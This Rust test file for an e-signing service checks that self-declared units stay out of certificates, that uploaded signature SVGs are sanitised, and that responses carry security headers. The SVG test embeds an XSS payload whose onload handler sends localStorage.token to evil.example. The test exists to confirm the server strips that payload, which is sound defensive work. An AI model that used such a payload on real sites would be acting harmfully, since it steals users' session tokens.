//! The smaller things: units in certificates, the signature SVG, response headers.

#[allow(unused_imports)]
use super::*;

#[tokio::test]
async fn an_added_unit_never_enters_a_certificate_and_its_seal_says_so() {
    let server = TestServer::start().await;
    let token = enrolled(&server).await;
    let (status, units) = server
        .authorized(
            "POST",
            "/api/me/units",
            &token,
            Some(json!({"name": "自称的集团公司", "role": "bidder"})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{units}");
    let added = units["units"]
        .as_array()
        .unwrap()
        .iter()
        .find(|unit| unit["name"] == "自称的集团公司")
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    let (status, _) = server
        .authorized(
            "PUT",
            &format!("/api/me/units/{added}/current"),
            &token,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK);

    let (_, signing_token) = seal_session(&server, "unit").await;
    let (status, request) = server
        .authorized(
            "GET",
            &format!("/api/signing/{signing_token}"),
            &token,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{request}");
    assert_eq!(request["unit_name"], "自称的集团公司");
    assert_eq!(request["unit_verified"], false);

    // A reset issues a new certificate: its subject keeps the registered unit.
    reset_with_face(&server, "Reset2026ok").await;
    let user = server
        .state
        .store
        .find_user(
            "huizhou",
            &cloudsign_contract::rules::Phone::parse(PHONE).unwrap(),
        )
        .await
        .unwrap()
        .unwrap();
    let certificate = server
        .state
        .store
        .valid_certificate(user.id)
        .await
        .unwrap()
        .unwrap();
    let der = &certificate.cert_der;
    let has = |text: &str| der.windows(text.len()).any(|w| w == text.as_bytes());
    assert!(has("惠州市某公司"), "the registered unit");
    assert!(!has("自称的集团公司"), "never the added one");
}

#[tokio::test]
async fn a_signature_svg_keeps_only_what_draws() {
    let server = TestServer::start().await;
    let token = enrolled(&server).await;
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    png.extend_from_slice(&600u32.to_be_bytes());
    png.extend_from_slice(&240u32.to_be_bytes());
    png.extend_from_slice(&[8, 6, 0, 0, 0, 0, 0, 0, 0]);
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"600\" height=\"240\"\nonload=\"fetch('//evil.example/'+localStorage.token)\"><path fill=\"#111\" d=\"M0 0L1 1Z\"/></svg>";
    let (status, saved) = server
        .authorized(
            "PUT",
            "/api/me/signature",
            &token,
            Some(json!({"png": b64(&png), "svg": svg})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{saved}");
    let stored = saved["svg"].as_str().unwrap();
    assert!(
        !stored.contains("onload") && !stored.contains("evil"),
        "{stored}"
    );
    assert!(stored.contains(r#"d="M0 0L1 1Z""#));
}

#[tokio::test]
async fn pages_and_answers_carry_the_security_headers() {
    let server = TestServer::start().await;
    let (_, headers, _) = server.get("/login").await;
    let policy = headers["content-security-policy"].to_str().unwrap();
    assert!(
        policy.contains("script-src 'self' 'wasm-unsafe-eval'"),
        "{policy}"
    );
    assert!(policy.contains("connect-src 'self'"));
    assert!(policy.contains("object-src 'none'"));
    assert!(!policy.contains("'unsafe-eval'"));
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(
        headers["referrer-policy"],
        "strict-origin-when-cross-origin"
    );
    assert!(
        headers["permissions-policy"]
            .to_str()
            .unwrap()
            .contains("camera=(self)")
    );

    let (_, headers, _) = server.get("/api/health").await;
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(
        headers["content-security-policy"],
        "default-src 'none'; frame-ancestors 'none'"
    );

    let (status, _) = one(
        &server,
        "/api/csp-report",
        json!({"csp-report": {"blocked-uri": "inline"}}),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (_, reports) = server.get_json("/sandbox/csp-reports").await;
    assert_eq!(reports.as_array().unwrap().len(), 1);
}
